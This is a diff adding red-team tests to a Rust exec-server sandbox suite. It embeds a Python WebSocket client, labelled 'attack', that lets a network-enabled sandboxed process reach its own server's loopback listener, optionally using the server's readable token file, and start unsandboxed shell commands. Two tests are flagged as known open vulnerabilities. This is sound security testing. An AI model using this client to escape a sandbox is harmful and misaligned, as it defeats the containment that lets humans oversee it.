@@ -515,3 +515,206 @@ async fn pooled_helpers_never_cross_contexts() {
     assert_eq!(real(&a), ["mine"]);
     assert_eq!(real(&b), ["mine"]);
 }
+
+/// A minimal WebSocket JSON-RPC client in Python (no libraries): connects
+/// to HOST PORT (with the bearer token read from TOKEN_FILE unless `-`),
+/// then either starts SCRIPT unsandboxed (`direct`) or starts the
+/// sandboxed command given as JSON (`sandboxed ARGV_JSON SANDBOX_JSON`)
+/// and waits for it to exit.
+const WS_CLIENT: &str = r#"
+import socket, os, sys, json, base64, struct, time
+host, port, token_file, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+token = open(token_file).read().strip() if token_file != "-" else None
+s = socket.create_connection((host, port), timeout=30)
+req = "GET / HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n" % (host, port, base64.b64encode(os.urandom(16)).decode())
+if token:
+    req += "Authorization: Bearer %s\r\n" % token
+s.sendall((req + "\r\n").encode())
+resp = b""
+while b"\r\n\r\n" not in resp:
+    d = s.recv(4096)
+    if not d:
+        break
+    resp += d
+print("upgrade:", resp.split(b"\r\n")[0].decode(), flush=True)
+def send(obj):
+    data = json.dumps(obj).encode(); mask = os.urandom(4)
+    n = len(data)
+    hdr = bytes([0x81]) + (bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + struct.pack(">H", n))
+    s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
+def exact(n):
+    d = b""
+    while len(d) < n:
+        c = s.recv(n - len(d))
+        if not c:
+            raise EOFError
+        d += c
+    return d
+def recv():
+    h = exact(2); n = h[1] & 0x7f
+    if n == 126: n = struct.unpack(">H", exact(2))[0]
+    elif n == 127: n = struct.unpack(">Q", exact(8))[0]
+    return json.loads(exact(n).decode())
+def call(i, method, params):
+    send({"id": i, "method": method, "params": params})
+    while True:
+        m = recv()
+        if m.get("id") == i:
+            return m
+call(1, "initialize", {"clientName": "attack"})
+send({"method": "initialized"})
+if mode == "direct":
+    r = call(2, "process/start", {"processId": "esc", "argv": ["sh", "-c", sys.argv[5]], "cwd": "/", "env": {"PATH": "/usr/bin:/bin"}, "tty": False})
+    print("start:", json.dumps(r), flush=True)
+    time.sleep(1)
+else:
+    argv, sandbox = json.loads(sys.argv[5]), json.loads(sys.argv[6])
+    call(2, "process/start", {"processId": "p", "argv": argv, "cwd": sandbox["cwd"], "env": {"PATH": "/usr/bin:/bin"}, "tty": False, "sandbox": sandbox})
+    after = None
+    while True:
+        r = call(3, "process/read", {"processId": "p", "afterSeq": after, "waitMs": 1000})["result"]
+        for c in r.get("chunks", []):
+            sys.stdout.write(base64.b64decode(c["chunk"]).decode(errors="replace"))
+        if r.get("nextSeq"):
+            after = r["nextSeq"] - 1
+        if r.get("closed"):
+            print("exit:", r.get("exitCode"), flush=True)
+            break
+"#;
+
+fn port_of(url: &str) -> String {
+    url.rsplit(':')
+        .next()
+        .unwrap_or_default()
+        .trim_end_matches('/')
+        .to_owned()
+}
+
+fn network_enabled_read_only() -> Value {
+    json!({"type": "managed", "file_system": {"type": "restricted", "entries": [special("root", "read")]}, "network": "enabled"})
+}
+
+/// A process the server sandboxes with network enabled connects back to
+/// the server's own loopback listener (no token: the default) and starts
+/// an unsandboxed command. Control: the same client from outside works.
+#[tokio::test]
+#[ignore = "VULN: a sandboxed process with network enabled reaches the exec-server's loopback listener (no token by default) and starts unsandboxed commands"]
+async fn sandboxed_process_cannot_drive_its_own_server() {
+    if !ready() || !common::redteam::python3() {
+        return;
+    }
+    let t = Tree::new();
+    let server = Server::start();
+    let port = port_of(&server.url);
+    // Control: from outside, the client drives the server.
+    let control = t.outside.join("control");
+    let out = std::process::Command::new("python3")
+        .args(["-c", WS_CLIENT, "127.0.0.1", &port, "-", "direct"])
+        .arg(format!("echo ok > {}", control.display()))
+        .output()
+        .expect("python3");
+    assert!(
+        control.exists(),
+        "control client failed: {}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let c = server.connect().await;
+    let target = t.outside.join("escaped");
+    let argv = [
+        "python3".to_owned(),
+        "-c".to_owned(),
+        WS_CLIENT.to_owned(),
+        "127.0.0.1".to_owned(),
+        port.clone(),
+        "-".to_owned(),
+        "direct".to_owned(),
+        format!("echo ESCAPED > {}", target.display()),
+    ];
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let (_, output) = run(
+        &c,
+        "reach",
+        &argv,
+        &t.ws,
+        ctx(network_enabled_read_only(), &t.ws),
+    )
+    .await;
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    assert!(!target.exists(), "escaped through the server: {output}");
+}
+
+/// With a token file, the sandboxes the server builds must not be able to
+/// read it (a read-everything profile would), or the previous attack works
+/// again.
+#[tokio::test]
+#[ignore = "VULN: the server's --auth-token-file is readable inside the sandboxes it builds (full-read profiles), so a network-enabled sandboxed process can authenticate to it"]
+async fn sandboxed_process_cannot_read_the_servers_token() {
+    if !ready() || !common::redteam::python3() {
+        return;
+    }
+    let t = Tree::new();
+    let token_file = t.put("outside/token", "s3cr3t-token-0123456789");
+    let server = common::client::Server::start(&["--auth-token-file", &p(&token_file)]);
+    let port = port_of(&server.url);
+    let target = t.outside.join("escaped");
+    let inner = vec![
+        "python3".to_owned(),
+        "-c".to_owned(),
+        WS_CLIENT.to_owned(),
+        "127.0.0.1".to_owned(),
+        port.clone(),
+        p(&token_file),
+        "direct".to_owned(),
+        format!("echo ESCAPED > {}", target.display()),
+    ];
+    // The test drives the server with the token (control) and asks for the
+    // sandboxed attacker.
+    let out = std::process::Command::new("python3")
+        .args(["-c", WS_CLIENT, "127.0.0.1", &port])
+        .arg(&token_file)
+        .arg("sandboxed")
+        .arg(serde_json::to_string(&inner).expect("json"))
+        .arg(ctx(network_enabled_read_only(), &t.ws).to_string())
+        .output()
+        .expect("python3");
+    let s = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        s.contains("upgrade: HTTP/1.1 101"),
+        "control: the token works: {s}"
+    );
+    assert!(
+        s.contains("exit:"),
+        "control: the sandboxed process ran: {s}"
+    );
+    assert!(!target.exists(), "escaped with the server's token: {s}");
+}
+
+/// With the network restricted the same reach-back fails (network
+/// namespace and seccomp), while the sandboxed process itself runs.
+#[tokio::test]
+async fn restricted_network_cannot_drive_the_server() {
+    if !ready() || !common::redteam::python3() {
+        return;
+    }
+    let t = Tree::new();
+    let server = Server::start();
+    let port = port_of(&server.url);
+    let c = server.connect().await;
+    let target = t.outside.join("escaped");
+    let script = format!(
+        "python3 -c \"$0\" 127.0.0.1 {port} - direct 'echo ESCAPED > {}' 2>&1 | tail -1; echo ran",
+        target.display()
+    );
+    let (_, output) = run(
+        &c,
+        "reach",
+        &["sh", "-c", &script, WS_CLIENT],
+        &t.ws,
+        ctx(workspace(vec![]), &t.ws),
+    )
+    .await;
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    assert!(output.contains("ran"), "{output}");
+    assert!(!output.contains("upgrade: HTTP/1.1 101"), "{output}");
+    assert!(!target.exists(), "{output}");
+}
